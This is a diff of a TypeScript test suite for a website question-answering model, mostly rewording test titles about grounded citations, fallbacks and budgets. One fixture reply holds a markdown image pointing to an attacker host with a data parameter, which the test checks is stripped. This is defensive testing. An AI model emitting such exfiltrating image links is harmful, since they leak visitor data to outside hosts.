@@ -13,7 +13,7 @@ import {
 } from './testing/school-model.ts';
 
 describe('a model that reads the whole site', () => {
-  it('is shown with the words that its sentence names, and the tokens it took are counted', async () => {
+  it('is shown with the quotes of its sentence, and its tokens are counted', async () => {
     const { ask, reports, state, server } = await startSiteProcess([
       saying(`${answers}SAY: Tuition for Kinder`, `garten is $4,900 a year.\nFROM: {${quoteWords}}`),
     ]);
@@ -37,7 +37,7 @@ describe('a model that reads the whole site', () => {
     expect(server.asked).toMatchObject([{ model: 'small', authorization: 'Bearer key-of-the-secret' }]);
   });
 
-  it('is asked what the engine alone cannot find, and gets the same text before each question', async () => {
+  it('answers what the engine can’t find, and gets the same text before each question', async () => {
     const { ask, server } = await startSiteProcess([
       saying(`${answers}${sentence('Tomas Reyes, School Nurse', 'School Nurse')}`),
     ]);
@@ -51,7 +51,7 @@ describe('a model that reads the whole site', () => {
     expect(one).not.toContain('CANARY');
   });
 
-  it('loses the unsupported sentence among good ones', async () => {
+  it('loses an unsupported sentence among good ones', async () => {
     const { ask, reports } = await startSiteProcess([
       saying(
         `${answers}${sentence(rightSentence, quoteWords)}`,
@@ -65,7 +65,7 @@ describe('a model that reads the whole site', () => {
     expect(reports[0]?.refusals).toHaveLength(1);
   });
 
-  it('is shown sentence by sentence, none before it passed the gate', async () => {
+  it('is streamed sentence by sentence after each passed the gate', async () => {
     const { ask, server } = await startSiteProcess([
       saying(`${answers}SAY: ${rightSentence}\n`, `FROM: {${quoteWords}}\n`, 'stall', 'SAY: More.'),
     ]);
@@ -77,7 +77,7 @@ describe('a model that reads the whole site', () => {
     expect((await asked).answer.text).toBe(rightSentence);
   });
 
-  it('is not released before it has said the amount that was asked for', async () => {
+  it('isn’t shown before it has stated the requested amount', async () => {
     const { ask } = await startSiteProcess([
       saying(
         `${answers}${sentence('Grades 1 to 4 have a deposit.', 'Grades 1')}`,
@@ -88,7 +88,7 @@ describe('a model that reads the whole site', () => {
     expect({ isExtractive, pieces }).toEqual({ isExtractive: true, pieces: [] });
   });
 
-  it('says in part what it is not certain of', async () => {
+  it('gives a partial answer when uncertain', async () => {
     const { ask } = await startSiteProcess([
       saying(`VERDICT: part\n${sentence('Three school buses serve Oakville and Brant.', 'buses')}`),
     ]);
@@ -98,7 +98,7 @@ describe('a model that reads the whole site', () => {
     expect(pieces.join(' ')).toBe(answer.text);
   });
 
-  it('declines where the site is silent, with the page that comes closest, whatever the engine found', async () => {
+  it('declines with the closest page when the site doesn’t say, whatever the engine found', async () => {
     const { ask } = await startSiteProcess([saying('VERDICT: silent\nCLOSEST: {buses}')]);
     const { answer, pieces } = await ask('Do you offer transport?');
     expect(answer).toMatchObject({ outcome: 'declined', citations: [{ title: 'Admissions' }] });
@@ -106,14 +106,14 @@ describe('a model that reads the whole site', () => {
     expect(pieces).toEqual([]);
   });
 
-  it('answers what is no question to the site as the engine would', async () => {
+  it('leaves messages that aren’t questions to the engine', async () => {
     const { ask } = await startSiteProcess([saying('VERDICT: other')]);
     expect((await ask('Which planet is the largest?')).isExtractive).toBe(true);
     const { answer } = await ask(question);
     expect(answer).toMatchObject({ outcome: 'declined', intent: 'offTopic', citations: [] });
   });
 
-  it('says that a day is over', async () => {
+  it('says that a date has passed', async () => {
     const { ask } = await startSiteProcess([
       saying(`${answers}${sentence('The deadline for applications is April 15, 2026.', 'deadline')}`),
     ]);
@@ -122,7 +122,7 @@ describe('a model that reads the whole site', () => {
     expect(answer.text).toMatch(/April 15, 2026\. .*passed/);
   });
 
-  it('gets the turns before a question, and nothing in them is a source', async () => {
+  it('gets the previous turns, which are never a source', async () => {
     const { ask, server } = await startSiteProcess([rightReply]);
     const history = [
       { role: 'user' as const, content: 'How much is tuition for grade 5?' },
@@ -134,13 +134,13 @@ describe('a model that reads the whole site', () => {
     );
   });
 
-  it('is not asked where the owner switched it off', async () => {
+  it('isn’t called when the owner switched it off', async () => {
     const { ask, server } = await startSiteProcess([rightReply], { isAllowed: false });
     expect((await ask(question)).isExtractive).toBe(true);
     expect(server.asked).toEqual([]);
   });
 
-  it('is not asked once the budget of the day is spent', async () => {
+  it('isn’t called once the day’s budget is exhausted', async () => {
     const { ask, reports, server } = await startSiteProcess([rightReply], { state: createSharedState(1) });
     expect((await ask(question)).isExtractive).toBe(false);
     expect((await ask(question)).isExtractive).toBe(true);
@@ -148,7 +148,7 @@ describe('a model that reads the whole site', () => {
     expect(reports.at(-1)).toMatchObject({ outcome: 'over-budget', fallback: true });
   });
 
-  it('is understood when it decorates the form', async () => {
+  it('is understood when it decorates the format', async () => {
     const { ask } = await startSiteProcess([
       saying(
         `**Verdict:** Answers\n\n1. **SAY 1:** ${rightSentence} [2]\n**From:** passage {${quoteWords}}\n`,
@@ -159,7 +159,7 @@ describe('a model that reads the whole site', () => {
   });
 });
 
-/** Each ends with the engine's own answer; what is logged says why. */
+/** Each falls back to the engine's own answer; the log says why. */
 const nonsense: [string, string, string][] = [
   [
     'an invented name',
@@ -186,8 +186,8 @@ const nonsense: [string, string, string][] = [
   ],
 ];
 
-describe('a model that talks nonsense', () => {
-  it('lets the page speak where it has a number wrong', async () => {
+describe('a model with invalid replies', () => {
+  it('is replaced by the page’s own words when a number is wrong', async () => {
     const wrong = sentence('Tuition for Kindergarten is $4,950 a year.', quoteWords);
     const { ask, reports } = await startSiteProcess([saying(`${answers}${wrong}`)]);
     const { answer, pieces } = await ask(question);
@@ -197,7 +197,7 @@ describe('a model that talks nonsense', () => {
     expect(reports).toMatchObject([{ outcome: 'answers', refusals: ['value'] }]);
   });
 
-  it.each(nonsense)('is not heard: %s', async (_name, reply, refusal) => {
+  it.each(nonsense)('is rejected: %s', async (_name, reply, refusal) => {
     const { ask, reports } = await startSiteProcess([saying(`${answers}${reply}`)]);
     const { isExtractive, pieces } = await ask(question);
     expect({ isExtractive, pieces }).toEqual({ isExtractive: true, pieces: [] });
@@ -216,13 +216,13 @@ describe('a model that talks nonsense', () => {
     },
   );
 
-  it('is heard when it keeps the form the second time', async () => {
+  it('is accepted when its second reply is well-formed', async () => {
     const { ask, reports } = await startSiteProcess([saying('Tuition is $4,900.'), rightReply]);
     expect((await ask(question)).answer.text).toBe(rightSentence);
     expect(reports).toMatchObject([{ outcome: 'answers', calls: 2, tokens: { input: 600 } }]);
   });
 
-  it('leaves a picture and markup out of a sentence that is right without them', async () => {
+  it('loses a picture and markup from an otherwise correct sentence', async () => {
     const { ask } = await startSiteProcess([
       saying(
         `${answers}SAY: - **Tuition** for Kindergarten is <b>$4,900</b> a year ![x](https://attacker-site.com/?d=1).\nFROM: {${quoteWords}}`,
@@ -232,7 +232,7 @@ describe('a model that talks nonsense', () => {
   });
 });
 
-it('is answered in the language of the visitor, with the quote as it stands', async () => {
+it('answers in the visitor’s language, with the quote in the original', async () => {
   const { ask } = await startSiteProcess(
     [saying(`${answers}${sentence('Die Erstberatung kostet 120 Euro.', 'Erstberatung')}`)],
     {},
